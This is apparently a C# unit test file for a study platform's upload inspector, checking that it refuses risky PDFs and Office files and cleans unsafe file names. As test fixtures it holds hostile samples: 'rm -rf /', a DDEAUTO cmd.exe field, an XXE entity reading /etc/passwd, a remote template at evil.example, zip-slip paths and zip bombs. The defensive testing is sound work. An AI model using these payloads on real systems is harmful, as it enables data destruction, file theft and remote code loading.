using System.IO.Compression;
using System.Text;
using StudySuite.Files;
using UglyToad.PdfPig.Content;
using UglyToad.PdfPig.Fonts.Standard14Fonts;
using UglyToad.PdfPig.Writer;

namespace StudySuite.Platform.Tests.Files;

/// <summary>What a file is by its bytes, and what is refused.</summary>
public sealed class InspectionTests
{
    public static TheoryData<string, byte[]> Refused { get; } = new()
    {
        { "Empty", [] },
        { "TypeNotAllowed", [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00] },
        { "TypeNotAllowed", OfficeFile.Zip(("evil.sh", "rm -rf /")) },
        { "OldOfficeFormat", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1] },
        { "Unreadable", "%PDF-1.7 nothing behind it"u8.ToArray() },
        { "Unreadable", [0x50, 0x4B, 0x03, 0x04, 0, 0, 0, 0] },
        { "Unreadable", OfficeFile.Docx("<w:p>") },
        { "ActiveContent", "%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"u8.ToArray() },
        { "Macro", OfficeFile.Docx(more: ("word/vbaProject.bin", "x")) },
        { "Macro", OfficeFile.Zip(
            ("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
            ("word/document.xml", "<a/>")) },
        { "ActiveContent", OfficeFile.Docx(more: ("word/embeddings/oleObject1.bin", "x")) },
        { "ActiveContent", OfficeFile.Docx(more: ("word/activeX/activeX1.xml", "<a/>")) },
        { "ActiveContent", OfficeFile.Docx("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>") },
        { "ActiveContent", OfficeFile.Docx(more: ("word/embeddings/package1.zip", "no zip")) },
        { "ExternalEntity", OfficeFile.Zip(
            ("[Content_Types].xml", "<Types/>"),
            ("word/document.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>")) },
        { "ExternalEntity", OfficeFile.Docx(more: ("word/styles.xml", "<!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>")) },
        { "ExternalRelation", OfficeFile.Docx(more: ("word/_rels/settings.xml.rels", OfficeFile.Relation("attachedTemplate", "http://evil.example/t.dotm"))) },
        { "ExternalRelation", OfficeFile.Docx(more: ("word/_rels/document.xml.rels", OfficeFile.Relation("image", "\\\\evil\\share\\i.png"))) },
        { "ExternalRelation", OfficeFile.Docx(more: ("word/_rels/document.xml.rels", OfficeFile.Relation("hyperlink", "file:///etc/passwd"))) },
        { "EntryName", OfficeFile.Docx(more: ("../../etc/cron.d/x", "x")) },
        { "EntryName", OfficeFile.Docx(more: ("C:\\windows\\x", "x")) },
        { "SecretMark", Encoding.UTF8.GetBytes("机密★10年") },
        { "SecretMark", CodePagesEncodingProvider.Instance.GetEncoding("GB18030")!.GetBytes("绝 密 ★ 通报") },
        { "SecretMark", OfficeFile.Docx("<w:p><w:r><w:t>秘</w:t></w:r><w:r><w:t>密</w:t></w:r><w:r><w:t>★3年</w:t></w:r></w:p>") },
        { "SecretMark", OfficeFile.Docx(more: ("word/header1.xml", "<a><t>机密☆</t></a>")) },
    };

    [Theory]
    [MemberData(nameof(Refused))]
    public void Inspect_NotTaken_SaysWhy(string fault, byte[] bytes)
    {
        var refused = Assert.Throws<FileRefusedException>(() => Inspect(bytes));

        Assert.Equal(fault, refused.Fault.ToString());
    }

    [Fact]
    public void Inspect_ManyGigabytesInAFewKilobytes_IsABomb()
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            using (var document = zip.CreateEntry("word/document.xml").Open())
            {
                document.Write("<a/>"u8);
            }

            using var entry = zip.CreateEntry("word/media/image1.png", CompressionLevel.Optimal).Open();
            var zeros = new byte[1 << 20];
            for (var i = 0; i < 64; i++)
            {
                entry.Write(zeros);
            }
        }

        var before = GC.GetTotalAllocatedBytes();
        var refused = Assert.Throws<FileRefusedException>(() => Inspect(bytes.ToArray()));

        Assert.Equal(FileFault.ZipBomb, refused.Fault);
        Assert.True(GC.GetTotalAllocatedBytes() - before < 30 << 20);
    }

    [Fact]
    public void Inspect_ThousandsOfEntries_IsABomb()
    {
        var bytes = OfficeFile.Zip([.. Enumerable.Range(0, 2500).Select(i => ($"word/{i}.xml", "<a/>"))]);

        Assert.Equal(FileFault.ZipBomb, Assert.Throws<FileRefusedException>(() => Inspect(bytes)).Fault);
    }

    [Theory]
    [InlineData("内部资料 注意保存", true)]
    [InlineData("内部资料，注意保存", true)]
    [InlineData("内部学习，保存好资料", false)]
    [InlineData("保守秘密。★ 学习要点", false)]
    public void Inspect_MarkedInternal_AsksAPerson(string text, bool isInternal)
    {
        var inspected = Inspect(OfficeFile.Docx($"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"));

        Assert.Equal((isInternal, ".docx"), (inspected.IsInternal, inspected.Extension));
        Assert.Contains(text, inspected.Text);
    }

    [Fact]
    public void Inspect_LinkThatAPersonClicks_IsTaken() => Assert.Equal(".docx", Inspect(OfficeFile.Docx(
        more: ("word/_rels/document.xml.rels", OfficeFile.Relation("hyperlink", "https://www.gov.cn/")))).Extension);

    [Fact]
    public void Inspect_Pdf_CountsPagesAndReads()
    {
        using var builder = new PdfDocumentBuilder();
        var font = builder.AddStandard14Font(Standard14Font.Helvetica);
        builder.AddPage(PageSize.A4).AddText("Study material", 12, new(50, 700), font);
        builder.AddPage(PageSize.A4);

        var inspected = Inspect(builder.Build());

        Assert.Equal(("application/pdf", 2), (inspected.ContentType, inspected.Pages));
        Assert.Contains("Study", inspected.Text);
    }

    [Theory]
    [InlineData("../../etc/passwd", ".pdf", "passwd.pdf")]
    [InlineData("..\\..\\报告.exe", ".pdf", "报告.pdf")]
    [InlineData("学习\u202Efdp.exe", ".docx", "学习fdp.docx")]
    [InlineData("a<script>\"b\".txt", ".txt", "ascriptb.txt")]
    [InlineData("....", ".txt", "file.txt")]
    [InlineData("", ".txt", "file.txt")]
    [InlineData("二十大报告.第一部分.docx", ".docx", "二十大报告.第一部分.docx")]
    public void Clean_Names_AreHarmless(string name, string extension, string expected) =>
        Assert.Equal(expected, FileNames.Clean(name, extension));

    private static InspectedFile Inspect(byte[] bytes)
    {
        var path = Path.GetTempFileName();
        try
        {
            File.WriteAllBytes(path, bytes);
            return FileInspector.Inspect(path, TestContext.Current.CancellationToken);
        }
        finally
        {
            File.Delete(path);
        }
    }
}
